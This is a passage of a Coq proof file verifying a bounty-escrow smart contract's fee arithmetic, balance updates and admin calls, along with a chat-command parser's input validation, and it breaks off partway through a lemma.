Lemma payouts_differ (n : Z) :
  0 < n -> 99 * (n + (n + 20) / 40) <> 100 * (n - (n + 20) / 40).
Proof. intros Hn. Z.div_mod_to_equations. lia. Qed.

Lemma initialize_fee_rates m0 roxn usdc rel fc s0 s1 :
  initialize m0 roxn usdc rel fc s0 = Return s1 ->
  platformFeeRate s1 = 50 /\ contributorFeeRate s1 = 50 /\
  relayer s1 = rel /\ feeCollector s1 = fc.
Proof.
  unfold initialize. intros H.
  repeat (apply bind_Return in H as (? & _ & H)).
  injection H as <-. cbn. auto.
Qed.

(** C10 (as amended).  When the relayer completes a bounty,
    [completeBounty] sends the contributor the escrowed amount minus
    amount * platformFeeRate / 10000 and amount * contributorFeeRate /
    10000, each rounded down, sends these two fees to the fee collector,
    and the escrow gives up the whole amount.  Both rates are set to 50
    basis points by [initialize]; with them the net payout is 99% of the
    escrowed amount, exactly when the amount is a multiple of 200 units and
    less than 2 units above it otherwise.
    When the escrowed amount is the wei value of the total the client pays
    for a base, the net payout is 99% of that total, which differs from
    the contributor payout (base minus the 2.5% contributor fee) that the
    store records for the base. *)
Theorem completeBounty_net_payout
    (s s' : State) (m : Msg) (bountyId : Z) (contributor : address)
    (events : list Event)
    (Hcompleted : completeBounty m bountyId contributor s = Return (s', events)) :
  let b := getBounty bountyId s in
  let platformFee := amount b * platformFeeRate s / 10000 in
  let contributorFee := amount b * contributorFeeRate s / 10000 in
  let net := amount b - platformFee - contributorFee in
  sender m = relayer s /\
  events = [BountyCompleted bountyId contributor (amount b)
              platformFee contributorFee net] /\
  status (getBounty bountyId s') = COMPLETED /\
  net + (platformFee + contributorFee) = amount b /\
  (contributor <> this s -> feeCollector s <> this s ->
   contributor <> feeCollector s ->
   balanceOf (balances s') (currency b) contributor
   = balanceOf (balances s) (currency b) contributor + net /\
   balanceOf (balances s') (currency b) (feeCollector s)
   = balanceOf (balances s) (currency b) (feeCollector s)
     + (platformFee + contributorFee) /\
   balanceOf (balances s') (currency b) (this s)
   = balanceOf (balances s) (currency b) (this s) - amount b) /\
  (platformFeeRate s = 50 -> contributorFeeRate s = 50 ->
   (0 <= amount b ->
    99 * amount b <= 100 * net /\ 100 * net <= 99 * amount b + 199) /\
   (amount b mod 200 = 0 -> 100 * net = 99 * amount b) /\
   (forall base : Q,
      (0 < base)%Q -> fixed8 base ->
      amount b = parseEther (totalPaidByClient (fees base)) ->
      (inject_Z net / inject_Z (10 ^ 18)
       == (99 # 100) * totalPaidByClient (fees base))%Q /\
      ~ (inject_Z net / inject_Z (10 ^ 18)
         == contributorPayout (fees base))%Q)) /\
  (forall m0 roxn usdc rel fc s0 s1,
     initialize m0 roxn usdc rel fc s0 = Return s1 ->
     platformFeeRate s1 = 50 /\ contributorFeeRate s1 = 50).
Proof.
  cbn zeta. unfold completeBounty in Hcompleted.
  apply bind_Return in Hcompleted as (u1 & Hsender & Hcompleted).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in Hcompleted as (u2 & Hactive & Hcompleted).
  apply bind_Return in Hcompleted as (u3 & Hnonzero & Hcompleted).
  apply bind_Return in Hcompleted as (u4 & Hexpiry & Hcompleted).
  apply bind_Return in Hcompleted as (p & Hp & Hcompleted).
  apply checked_mul_Return in Hp.
  apply bind_Return in Hcompleted as (c & Hc & Hcompleted).
  apply checked_mul_Return in Hc.
  apply bind_Return in Hcompleted as (rest & Hrest & Hcompleted).
  apply checked_sub_Return in Hrest as [Hrest _].
  apply bind_Return in Hcompleted as (netAmount & Hnet & Hcompleted).
  apply checked_sub_Return in Hnet as [Hnet _].
  apply bind_Return in Hcompleted as (feeSum & Hfees & Hcompleted).
  apply checked_add_Return in Hfees.
  apply bind_Return in Hcompleted as (bal1 & Hbal1 & Hcompleted).
  apply pay_Return in Hbal1 as [_ Hbal1].
  apply move_Return in Hbal1 as [_ Hbal1].
  apply bind_Return in Hcompleted as (bal2 & Hbal2 & Hcompleted).
  apply pay_Return in Hbal2 as [_ Hbal2].
  apply move_Return in Hbal2 as [_ Hbal2].
  injection Hcompleted as <- <-.
  set (b := getBounty bountyId s) in *.
  subst p c rest netAmount feeSum.
  set (platformFee := amount b * platformFeeRate s / 10000) in *.
  set (contributorFee := amount b * contributorFeeRate s / 10000) in *.
  set (net := amount b - platformFee - contributorFee) in *.
  split; [exact Hsender|].
  split; [reflexivity|].
  split.
  { unfold getBounty at 1, set_bounty. cbn [bounties].
    rewrite lookup_insert_eq. reflexivity. }
  split; [unfold net; lia|].
  split.
  { intros Hct Hft Hcf. cbn [balances set_bounty]. subst bal2 bal1.
    repeat split.
    - rewrite (credit_other _ _ _ _ contributor) by exact Hcf.
      rewrite (credit_other _ _ _ _ contributor) by exact Hct.
      rewrite credit_same.
      rewrite (credit_other _ _ _ _ contributor) by exact Hct. reflexivity.
    - rewrite credit_same.
      rewrite (credit_other _ _ _ _ (feeCollector s)) by exact Hft.
      rewrite (credit_other _ _ _ _ (feeCollector s)) by congruence.
      rewrite (credit_other _ _ _ _ (feeCollector s)) by exact Hft. reflexivity.
    - rewrite (credit_other _ _ _ _ (this s)) by congruence.
      rewrite credit_same.
      rewrite (credit_other _ _ _ _ (this s)) by congruence.
      rewrite credit_same. unfold net. lia. }
  split;
    [|intros m0 roxn usdc rel fc s0 s1 Hinit;
      destruct (initialize_fee_rates _ _ _ _ _ _ _ Hinit) as (? & ? & _); auto].
  intros Hplatform Hcontributor.
  unfold net, platformFee, contributorFee. rewrite Hplatform, Hcontributor.
  clear platformFee contributorFee net Hbal1 Hbal2.
  set (fee := amount b * 50 / 10000).
  set (net := amount b - fee - fee).
  split.
  { intros Hamount. unfold net, fee. Z.div_mod_to_equations. lia. }
  split.
  { intros Hmod. unfold net, fee. Z.div_mod_to_equations. lia. }
  intros base Hpos [n Hn] Hamount.
  destruct (fees_proper _ _ Hn) as [Hpaid Hpayout].
  destruct (fees_in_units n) as (_ & Hpaid' & Hpayout').
  cbn zeta in Hpaid', Hpayout'.
  rewrite Hpaid' in Hpaid. rewrite Hpayout' in Hpayout.
  rewrite (parseEther_units _ _ Hpaid) in Hamount.
  assert (Hnpos : 0 < n).
  { rewrite Hn in Hpos. unfold Qlt in Hpos. cbn in Hpos. lia. }
  set (F := (n + 20) / 40) in *.
  assert (Hnet : net = 99 * (n + F) * 100000000).
  { unfold net, fee. rewrite Hamount. Z.div_mod_to_equations. lia. }
  rewrite Hpaid, Hpayout, Hnet.
  change (10 ^ 18) with 1000000000000000000.
  split.
  - rewrite !inject_Z_mult. rewrite (Qmake_Qdiv 99 100). field.
  - intros Heq.
    apply (payouts_differ n Hnpos). fold F.
    unfold Qeq, Qdiv, Qmult, Qinv, inject_Z in Heq.
    cbn [Qnum Qden] in Heq. lia.
Qed.

Lemma completeBounty_net_payout_witness :
  Scenarios.completion
  = Return (Scenarios.completedEscrow, Scenarios.completionEvents) /\
  Scenarios.completionEvents
  = [BountyCompleted 1 401 102500000000000000000
       512500000000000000 512500000000000000 101475000000000000000].
Proof.
  assert (Hok : Scenarios.completion
                = Return (Scenarios.completedEscrow, Scenarios.completionEvents))
    by (vm_compute; reflexivity).
  split; [exact Hok|].
  exact (proj1 (proj2 (completeBounty_net_payout Scenarios.escrowWithBounty
                         Scenarios.completedEscrow
                         {| sender := 777; value := 0; timestamp := 300 |}
                         1 401 Scenarios.completionEvents Hok))).
Defined.

(** C10, counterexample.  A USDC bounty of 1035250 units: each fee is
    5176 units (5176.25 rounded down), the contributor receives 1024898
    units, which is not 99% of 1035250 (1024897.5). *)
Lemma completeBounty_net_payout_inexact :
  match completeBounty {| sender := 777; value := 0; timestamp := 300 |}
          1 401 Scenarios.escrowWithUsdcBounty with
  | Return (s', [BountyCompleted _ _ escrowed platformFee contributorFee net]) =>
      platformFeeRate Scenarios.escrowWithUsdcBounty = 50 /\
      contributorFeeRate Scenarios.escrowWithUsdcBounty = 50 /\
      escrowed = 1035250 /\ platformFee = 5176 /\ contributorFee = 5176 /\
      net = 1024898 /\
      balanceOf (balances s') USDC 401 = 1024898 /\
      100 * net <> 99 * escrowed
  | _ => False
  end.
Proof. vm_compute. repeat split. discriminate. Qed.

(** The numbers of the example: on the chain alice receives 101.475 XDC of
    the 102.5 escrowed, while the store records a contributor payout of
    97.5 for the base of 100. *)
Example onchain_and_recorded_payout_for_100 :
  balanceOf (balances Scenarios.completedEscrow) XDC 401 = 101475000000000000000 /\
  balanceOf (balances Scenarios.completedEscrow) XDC 888 = 1025000000000000000 /\
  balanceOf (balances Scenarios.completedEscrow) XDC 900 = 0 /\
  parseEther (totalPaidByClient (fees 100)) = 102500000000000000000 /\
  parseEther (contributorPayout (fees 100)) = 97500000000000000000.
Proof. vm_compute. repeat split. Qed.

End EscrowProps.


(* ===================================================================== *)
(** * Properties of the command parser *)
(* ===================================================================== *)

Module CommandParserProps.
Import CommandParser.

Lemma parse_currency_name tok c : parse_currency tok = Some c -> tok = currency_name c.
Proof.
  unfold parse_currency.
  destruct (String.eqb tok "XDC") eqn:H1; [apply String.eqb_eq in H1; intros [= <-]; exact H1|].
  destruct (String.eqb tok "ROXN") eqn:H2; [apply String.eqb_eq in H2; intros [= <-]; exact H2|].
  destruct (String.eqb tok "USDC") eqn:H3; [apply String.eqb_eq in H3; intros [= <-]; exact H3|].
  discriminate.
Qed.

Lemma amount_in_bounds_spec a :
  amount_in_bounds a = true ->
  (minAmount <= amount_value a)%Q /\ (amount_value a <= maxAmount)%Q.
Proof.
  unfold amount_in_bounds.
  destruct (Qlt_le_dec (amount_value a) minAmount); [discriminate|].
  destruct (Qlt_le_dec maxAmount (amount_value a)); [discriminate|].
  auto.
Qed.

Lemma amount_and_currency_Some mk a tok cmd :
  amount_and_currency mk a tok = Some cmd ->
  exists c, cmd = mk a c /\ tok = currency_name c /\
            matches_amount_pattern a = true /\
            (1 <= amount_value a)%Q /\ (amount_value a <= inject_Z 1000000)%Q.
Proof.
  unfold amount_and_currency, valid_amount.
  destruct (matches_amount_pattern a) eqn:Hp; [|discriminate].
  destruct (amount_in_bounds a) eqn:Hb; [|discriminate]. cbn [andb].
  destruct (parse_currency tok) as [c|] eqn:Hc; [|discriminate].
  intros [= <-]. exists c.
  apply parse_currency_name in Hc. apply amount_in_bounds_spec in Hb.
  tauto.
Qed.

(** C9.  Modelled from the spec.  The parser returns a bounty-creation
    command, pool-scoped or bare, only for an amount that matches the
    decimal pattern with at most eight fractional digits and whose value
    is at least 1 and at most 10^6, followed by one of the three currency
    tokens in upper case; a creation text whose amount or currency fails
    these rules, and any text that starts with none of the command words,
    gives no command ([None]), never an error. *)
Theorem parseBountyCommand_validates (commentText : string) :
  (forall a c,
     parseBountyCommand commentText = Some (community_create a c) \/
     parseBountyCommand commentText = Some (pool_allocate a c) ->
     matches_amount_pattern a = true /\
     (1 <= amount_value a)%Q /\ (amount_value a <= inject_Z 1000000)%Q /\
     (words commentText = ["/bounty"; a; currency_name c]%string \/
      words commentText = ["/bounty"; "pool"; a; currency_name c]%string)) /\
  (forall a tok,
     words commentText = ["/bounty"; a; tok]%string \/
     words commentText = ["/bounty"; "pool"; a; tok]%string ->
     valid_amount a = false \/ parse_currency tok = None ->
     parseBountyCommand commentText = None) /\
  (forall w ws,
     words commentText = w :: ws ->
     w <> "/bounty"%string -> w <> "/claim"%string -> w <> "@roxonn"%string ->
     parseBountyCommand commentText = None) /\
  (words commentText = [] -> parseBountyCommand commentText = None).
Proof.
  unfold parseBountyCommand.
  split; [|split; [|split]].
  - intros a c Hcmd.
    destruct (words commentText) as [|w1 [|w2 [|w3 [|w4 [|w5 ws]]]]];
      try (destruct Hcmd; discriminate).
    + destruct (String.eqb w1 "/bounty"); destruct Hcmd; discriminate.
    + destruct (String.eqb w1 "/claim").
      * destruct (parse_pr w2); destruct Hcmd; discriminate.
      * destruct (String.eqb w1 "@roxonn" && String.eqb w2 "status");
          destruct Hcmd; discriminate.
    + destruct (String.eqb w1 "/bounty") eqn:H1; [|destruct Hcmd; discriminate].
      apply String.eqb_eq in H1. subst w1.
      destruct Hcmd as [Hcmd|Hcmd];
        apply amount_and_currency_Some in Hcmd as (c' & Heq & -> & Hp & Hlo & Hhi);
        [|discriminate].
      injection Heq as <- <-. repeat split; auto.
    + destruct (String.eqb w1 "/bounty" && String.eqb w2 "pool") eqn:H12;
        [|destruct Hcmd; discriminate].
      apply andb_true_iff in H12 as [H1 H2].
      apply String.eqb_eq in H1, H2. subst w1 w2.
      destruct Hcmd as [Hcmd|Hcmd];
        apply amount_and_currency_Some in Hcmd as (c' & Heq & -> & Hp & Hlo & Hhi);
        [discriminate|].
      injection Heq as <- <-. repeat split; auto.
  - intros a tok [-> | ->] Hbad; cbn.
    + unfold amount_and_currency. destruct Hbad as [-> | ->]; [reflexivity|].
      destruct (valid_amount a); reflexivity.
    + unfold amount_and_currency. destruct Hbad as [-> | ->]; [reflexivity|].
      destruct (valid_amount a); reflexivity.
  - intros w ws -> Hb Hc Hr.
    apply String.eqb_neq in Hb, Hc, Hr.
    destruct ws as [|w2 [|w3 [|w4 [|w5 ws]]]]; rewrite ?Hb, ?Hc, ?Hr; reflexivity.
  - intros ->. reflexivity.
Qed.

Example parse_create :
  parseBountyCommand "/bounty 100 USDC" = Some (community_create "100" USDC) /\
  parseBountyCommand "/bounty 1000.25 ROXN" = Some (community_create "1000.25" ROXN) /\
  parseBountyCommand "/bounty pool 50 XDC" = Some (pool_allocate "50" XDC) /\
  parseBountyCommand "/bounty 1000000 XDC" = Some (community_create "1000000" XDC) /\
  parseBountyCommand "/claim #123" = Some (community_claim 123) /\
  parseBountyCommand "@roxonn status" = Some status /\
  parseBountyCommand "/bounty" = Some request.
Proof. vm_compute. repeat split. Qed.

Example parse_rejects :
  parseBountyCommand "/bounty 0.5 USDC" = None /\
  parseBountyCommand "/bounty 0 ROXN" = None /\
  parseBountyCommand "/bounty 1000000.00000001 XDC" = None /\
  parseBountyCommand "/bounty 999999999 USDC" = None /\
  parseBountyCommand "/bounty 100.123456789 USDC" = None /\
  parseBountyCommand "/bounty -50 XDC" = None /\
  parseBountyCommand "/bounty 100 usdc" = None /\
  parseBountyCommand "/bounty 100 BTC" = None /\
  parseBountyCommand "thanks, looks good to me" = None /\
  parseBountyCommand "" = None.
Proof. vm_compute. repeat split. Qed.

End CommandParserProps.

(* ===================================================================== *)
(** * Properties of the escrow contract over sequences of transactions *)
(* ===================================================================== *)

Module EscrowRunsProps.
Import Escrow EscrowAdmin EscrowProps.

Lemma currencyId_inj c c' : currencyId c = currencyId c' -> c = c'.
Proof. destruct c, c'; cbn; congruence. Qed.

(** The balance of [a'] in [c'] after [v] is credited to [a] in [c]. *)
Lemma balanceOf_credit c a v bal c' a' :
  balanceOf (credit c a v bal) c' a'
  = balanceOf bal c' a' + (if bool_decide (c = c' /\ a = a') then v else 0).
Proof.
  case_bool_decide as H.
  - destruct H as [<- <-]. apply credit_same.
  - unfold credit, balanceOf, Balances in *.
    rewrite lookup_insert_ne; [lia|].
    intros [= Hc Ha]. apply currencyId_inj in Hc. tauto.
Qed.

Lemma balanceOf_move c src dst v bal bal' c' a :
  move c src dst v bal = Return bal' ->
  balanceOf bal' c' a
  = balanceOf bal c' a
    + (if bool_decide (c = c' /\ dst = a) then v else 0)
    - (if bool_decide (c = c' /\ src = a) then v else 0).
Proof.
  intros H. apply move_Return in H as [_ ->].
  rewrite !balanceOf_credit. repeat case_bool_decide; lia.
Qed.

Lemma locked_comm c (j1 j2 : Z) (z1 z2 : Bounty) (y : Z) :
  locked c z1 + (locked c z2 + y) = locked c z2 + (locked c z1 + y).
Proof. lia. Qed.

Lemma locked_zeroBounty c : locked c zeroBounty = 0.
Proof. unfold locked. case_bool_decide; reflexivity. Qed.

Lemma escrowed_delete c (m : gmap Z Bounty) bountyId :
  map_fold (fun _ b acc => locked c b + acc) 0 m
  = locked c (default zeroBounty (m !! bountyId))
    + map_fold (fun _ b acc => locked c b + acc) 0 (delete bountyId m).
Proof.
  destruct (m !! bountyId) as [b|] eqn:Hb; cbn [default].
  - apply (map_fold_delete_L (fun _ b acc => locked c b + acc)); [|exact Hb].
    intros. apply locked_comm; assumption.
  - rewrite delete_id by exact Hb. rewrite locked_zeroBounty. lia.
Qed.

(** Writing a bounty replaces what the one stored under its id locked. *)
Lemma escrowed_set_bounty c bountyId b bal s :
  escrowed c (set_bounty bountyId b bal s)
  = escrowed c s - locked c (getBounty bountyId s) + locked c b.
Proof.
  unfold escrowed, getBounty. cbn [set_bounty bounties].
  rewrite (escrowed_delete c (bounties s) bountyId).
  rewrite <- insert_delete_eq.
  rewrite (map_fold_insert_L (fun _ b acc => locked c b + acc));
    [lia| |apply lookup_delete_eq].
  intros. apply locked_comm; assumption.
Qed.

Lemma locked_nonneg c b : 0 <= amount b -> 0 <= locked c b.
Proof. intros H. unfold locked. case_bool_decide; lia. Qed.

Lemma getBounty_nonneg s bountyId :
  well_formed s -> 0 <= amount (getBounty bountyId s).
Proof.
  intros (_ & _ & H). unfold getBounty.
  destruct (bounties s !! bountyId) as [b|] eqn:Hb; cbn; [eauto|lia].
Qed.

Lemma sum_locked_nonneg c (m : gmap Z Bounty) :
  (forall k b, m !! k = Some b -> 0 <= amount b) ->
  0 <= map_fold (fun _ b acc => locked c b + acc) 0 m.
Proof.
  apply (map_fold_weak_ind
           (fun acc m => (forall k b, m !! k = Some b -> 0 <= amount b) -> 0 <= acc)).
  - lia.
  - intros i x m' acc Hi IH Hall.
    assert (0 <= locked c x).
    { apply locked_nonneg, (Hall i). apply lookup_insert_eq. }
    assert (0 <= acc); [|lia].
    apply IH. intros k b Hk. apply (Hall k).
    rewrite lookup_insert_ne; [exact Hk|]. intros ->. congruence.
Qed.

(** A stored bounty locks no more than the total. *)
Lemma locked_le_escrowed c s bountyId :
  well_formed s -> locked c (getBounty bountyId s) <= escrowed c s.
Proof.
  intros (_ & _ & Hwf). unfold escrowed, getBounty.
  rewrite (escrowed_delete c (bounties s) bountyId).
  assert (H : 0 <= map_fold (fun _ b acc => locked c b + acc) 0
                     (delete bountyId (bounties s))); [|lia].
  apply sum_locked_nonneg. intros k b Hk.
  destruct (decide (k = bountyId)) as [->|Hne].
  - rewrite lookup_delete_eq in Hk. discriminate.
  - rewrite lookup_delete_ne in Hk by congruence. eauto.
Qed.

(** ** What each call does when it returns *)

Ltac bind_inv H :=
  repeat (let x := fresh "x" in
          let Hx := fresh "Hx" in
          apply bind_Return in H as (x & Hx & H);
          try apply require_Return in Hx).

Lemma createBounty_Return m amt cur expires s bountyId s' events :
  createBounty m amt cur expires s = Return (bountyId, s', events) ->
  exists paid bal,
    move XDC (sender m) (this s) (value m) (balances s) = Return paid /\
    0 < amt /\ (0 < expires -> timestamp m < expires) /\
    bountyId = nextBountyId s /\
    match cur with
    | XDC => value m = amt /\ bal = paid
    | _ => amt <= balanceOf (allowances s) cur (sender m) /\
           move cur (sender m) (this s) amt paid = Return bal
    end /\
    bounties s'
    = <[bountyId := {| creator := sender m; amount := amt; currency := cur;
                       expiresAt := expires; status := ACTIVE |}]> (bounties s) /\
    balances s' = bal /\
    nextBountyId s' = bountyId + 1 /\
    this s' = this s /\ owner s' = owner s /\ relayer s' = relayer s /\
    feeCollector s' = feeCollector s /\ initialized s' = initialized s /\
    platformFeeRate s' = platformFeeRate s /\
    contributorFeeRate s' = contributorFeeRate s /\
    events = [BountyCreated bountyId (sender m) amt cur expires].
Proof.
  unfold createBounty. intros H.
  apply bind_Return in H as (paid & Hpaid & H).
  apply bind_Return in H as (u1 & Hamt & H).
  apply require_Return, Z.ltb_lt in Hamt.
  apply bind_Return in H as (u2 & Hexp & H).
  apply bind_Return in H as (next & Hnext & H).
  apply checked_add_Return in Hnext.
  apply bind_Return in H as (bal & Hbal & H).
  injection H as <- <- <-.
  exists paid, bal. split; [exact Hpaid|]. split; [exact Hamt|].
  split.
  { intros He. apply Z.ltb_lt in He. rewrite He in Hexp.
    apply require_Return, Z.ltb_lt in Hexp. exact Hexp. }
  split; [reflexivity|].
  split.
  { destruct cur.
    - apply bind_Return in Hbal as (u3 & Hv & Hbal).
      apply require_Return, Z.eqb_eq in Hv. injection Hbal as <-. auto.
    - apply bind_Return in Hbal as (u3 & Ha & Hbal).
      apply require_Return, Z.leb_le in Ha. auto.
    - apply bind_Return in Hbal as (u3 & Ha & Hbal).
      apply require_Return, Z.leb_le in Ha. auto. }
  cbn. subst next. repeat split; reflexivity.
Qed.

Lemma completeBounty_Return m bountyId contributor s s' events :
  completeBounty m bountyId contributor s = Return (s', events) ->
  let b := getBounty bountyId s in
  let platformFee := amount b * platformFeeRate s / 10000 in
  let contributorFee := amount b * contributorFeeRate s / 10000 in
  let net := amount b - platformFee - contributorFee in
  exists bal1 bal2,
    sender m = relayer s /\ status b = ACTIVE /\ contributor <> 0 /\
    (0 < expiresAt b -> timestamp m <= expiresAt b) /\
    platformFee <= amount b /\ contributorFee <= amount b - platformFee /\
    move (currency b) (this s) contributor net (balances s) = Return bal1 /\
    move (currency b) (this s) (feeCollector s) (platformFee + contributorFee) bal1
    = Return bal2 /\
    s' = set_bounty bountyId (with_status COMPLETED b) bal2 s /\
    events = [BountyCompleted bountyId contributor (amount b)
                platformFee contributorFee net].
Proof.
  unfold completeBounty. intros H. cbn zeta.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (u2 & Hactive & H).
  apply require_Return, bool_decide_eq_true in Hactive.
  apply bind_Return in H as (u3 & Hnonzero & H).
  apply require_Return, negb_true_iff, Z.eqb_neq in Hnonzero.
  apply bind_Return in H as (u4 & Hexpiry & H).
  apply bind_Return in H as (p & Hp & H). apply checked_mul_Return in Hp.
  apply bind_Return in H as (c & Hc & H). apply checked_mul_Return in Hc.
  apply bind_Return in H as (rest & Hrest & H).
  apply checked_sub_Return in Hrest as [Hrest Hle1].
  apply bind_Return in H as (netAmount & Hnet & H).
  apply checked_sub_Return in Hnet as [Hnet Hle2].
  apply bind_Return in H as (fees & Hfees & H). apply checked_add_Return in Hfees.
  apply bind_Return in H as (bal1 & Hbal1 & H).
  apply pay_Return in Hbal1 as [_ Hbal1].
  apply bind_Return in H as (bal2 & Hbal2 & H).
  apply pay_Return in Hbal2 as [_ Hbal2].
  injection H as <- <-. subst p c rest netAmount fees.
  exists bal1, bal2. repeat split; try assumption.
  intros He. apply Z.ltb_lt in He. rewrite He in Hexpiry.
  apply require_Return, Z.leb_le in Hexpiry. exact Hexpiry.
Qed.

Lemma refundBounty_Return m bountyId s s' events :
  refundBounty m bountyId s = Return (s', events) ->
  let b := getBounty bountyId s in
  exists bal,
    sender m = creator b /\ status b = ACTIVE /\
    0 < expiresAt b /\ expiresAt b < timestamp m /\
    move (currency b) (this s) (creator b) (amount b) (balances s) = Return bal /\
    s' = set_bounty bountyId (with_status REFUNDED b) bal s /\
    events = [BountyRefunded bountyId (creator b) (amount b)].
Proof.
  unfold refundBounty. intros H. cbn zeta.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (u2 & Hactive & H).
  apply require_Return, bool_decide_eq_true in Hactive.
  apply bind_Return in H as (u3 & Hexp & H).
  apply require_Return, Z.ltb_lt in Hexp.
  apply bind_Return in H as (u4 & Hpast & H).
  apply require_Return, Z.ltb_lt in Hpast.
  apply bind_Return in H as (bal & Hbal & H).
  apply pay_Return in Hbal as [_ Hbal].
  injection H as <- <-.
  exists bal. repeat split; assumption.
Qed.

(** A call that pays returns only when the recipients take the payment. *)
Lemma completeBounty_takes m bountyId contributor s r :
  completeBounty m bountyId contributor s = Return r ->
  takes_transfer (currency (getBounty bountyId s)) contributor s = true /\
  takes_transfer (currency (getBounty bountyId s)) (feeCollector s) s = true.
Proof.
  unfold completeBounty. intros H.
  do 9 (apply bind_Return in H as (? & _ & H)).
  apply bind_Return in H as (bal1 & Hbal1 & H).
  apply pay_Return in Hbal1 as [Ht1 _].
  apply bind_Return in H as (bal2 & Hbal2 & H).
  apply pay_Return in Hbal2 as [Ht2 _]. auto.
Qed.

Lemma setFeeRates_Return m p c s s' :
  setFeeRates m p c s = Return s' ->
  sender m = owner s /\ p + c <= 1000 /\
  platformFeeRate s' = p /\ contributorFeeRate s' = c /\
  bounties s' = bounties s /\ balances s' = balances s /\
  nextBountyId s' = nextBountyId s /\ this s' = this s /\
  owner s' = owner s /\ relayer s' = relayer s /\
  feeCollector s' = feeCollector s /\ initialized s' = initialized s.
Proof.
  unfold setFeeRates. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (total & Htotal & H).
  apply checked_add_Return in Htotal.
  apply bind_Return in H as (u2 & Hcap & H).
  apply require_Return, Z.leb_le in Hcap.
  injection H as <-. subst total. cbn. repeat split; assumption.
Qed.

Lemma setRelayer_Return m newRelayer s s' events :
  setRelayer m newRelayer s = Return (s', events) ->
  sender m = owner s /\ newRelayer <> 0 /\ relayer s' = newRelayer /\
  events = [RelayerUpdated (relayer s) newRelayer] /\
  platformFeeRate s' = platformFeeRate s /\
  contributorFeeRate s' = contributorFeeRate s /\
  bounties s' = bounties s /\ balances s' = balances s /\
  nextBountyId s' = nextBountyId s /\ this s' = this s /\
  owner s' = owner s /\
  feeCollector s' = feeCollector s /\ initialized s' = initialized s.
Proof.
  unfold setRelayer. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (u2 & Hnz & H).
  apply require_Return, negb_true_iff, Z.eqb_neq in Hnz.
  injection H as <- <-. cbn. repeat split; assumption.
Qed.

Lemma setFeeCollector_Return m newFeeCollector s s' :
  setFeeCollector m newFeeCollector s = Return s' ->
  sender m = owner s /\ newFeeCollector <> 0 /\
  feeCollector s' = newFeeCollector /\
  platformFeeRate s' = platformFeeRate s /\
  contributorFeeRate s' = contributorFeeRate s /\
  bounties s' = bounties s /\ balances s' = balances s /\
  nextBountyId s' = nextBountyId s /\ this s' = this s /\
  owner s' = owner s /\ relayer s' = relayer s /\
  initialized s' = initialized s.
Proof.
  unfold setFeeCollector. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (u2 & Hnz & H).
  apply require_Return, negb_true_iff, Z.eqb_neq in Hnz.
  injection H as <-. cbn. repeat split; assumption.
Qed.

Lemma transferOwnership_Return m newOwner s s' :
  transferOwnership m newOwner s = Return s' ->
  sender m = owner s /\ newOwner <> 0 /\ s' = with_owner newOwner s.
Proof.
  unfold transferOwnership. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  apply bind_Return in H as (u2 & Hnz & H).
  apply require_Return, negb_true_iff, Z.eqb_neq in Hnz.
  injection H as <-. auto.
Qed.

Lemma renounceOwnership_Return m s s' :
  renounceOwnership m s = Return s' ->
  sender m = owner s /\ s' = with_owner 0 s.
Proof.
  unfold renounceOwnership. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  injection H as <-. auto.
Qed.

Lemma upgradeToAndCall_Return m newImplementation data s s' :
  upgradeToAndCall m newImplementation data s = Return s' ->
  sender m = owner s /\ s' = data s.
Proof.
  unfold upgradeToAndCall, _authorizeUpgrade. intros H.
  apply bind_Return in H as (u1 & Hsender & H).
  apply require_Return, Z.eqb_eq in Hsender.
  injection H as <-. auto.
Qed.

Lemma initialize_Return m roxn usdc rel fc s s' :
  initialize m roxn usdc rel fc s = Return s' ->
  initialized s = false /\ initialized s' = true /\
  owner s' = sender m /\ relayer s' = rel /\ feeCollector s' = fc /\
  platformFeeRate s' = 50 /\ contributorFeeRate s' = 50 /\
  nextBountyId s' = 1 /\
  bounties s' = bounties s /\ balances s' = balances s /\ this s' = this s.
Proof.
  unfold initialize. intros H.
  apply bind_Return in H as (u1 & Hinit & H).
  apply require_Return, negb_true_iff in Hinit.
  repeat (apply bind_Return in H as (? & _ & H)).
  injection H as <-. cbn. repeat split; assumption.
Qed.

(** ** When a call returns *)

Lemma checked_mul_ok a b : a * b <= MAX_UINT256 -> checked_mul a b = Return (a * b).
Proof. intros H. unfold checked_mul. apply Z.leb_le in H. rewrite H. reflexivity. Qed.

Lemma checked_add_ok a b : a + b <= MAX_UINT256 -> checked_add a b = Return (a + b).
Proof. intros H. unfold checked_add. apply Z.leb_le in H. rewrite H. reflexivity. Qed.

Lemma checked_sub_ok a b : b <= a -> checked_sub a b = Return (a - b).
Proof. intros H. unfold checked_sub. apply Z.leb_le in H. rewrite H. reflexivity. Qed.

Lemma move_ok c src dst v bal :
  v <= balanceOf bal c src ->
  move c src dst v bal = Return (credit c dst v (credit c src (- v) bal)).
Proof. intros H. unfold move. apply Z.ltb_ge in H. rewrite H. reflexivity. Qed.

Lemma pay_ok c dst v s bal :
  takes_transfer c dst s = true ->
  v <= balanceOf bal c (this s) ->
  pay c dst v s bal = Return (credit c dst v (credit c (this s) (- v) bal)).
Proof.
  intros Ht Hv. unfold pay. rewrite Ht. cbn [require bind].
  apply move_ok. exact Hv.
Qed.

Lemma completeBounty_ok m bountyId contributor s :
  let b := getBounty bountyId s in
  let platformFee := amount b * platformFeeRate s / 10000 in
  let contributorFee := amount b * contributorFeeRate s / 10000 in
  let net := amount b - platformFee - contributorFee in
  let bal1 := credit (currency b) contributor net
                (credit (currency b) (this s) (- net) (balances s)) in
  let bal2 := credit (currency b) (feeCollector s) (platformFee + contributorFee)
                (credit (currency b) (this s) (- (platformFee + contributorFee)) bal1) in
  sender m = relayer s -> status b = ACTIVE -> contributor <> 0 ->
  takes_transfer (currency b) contributor s = true ->
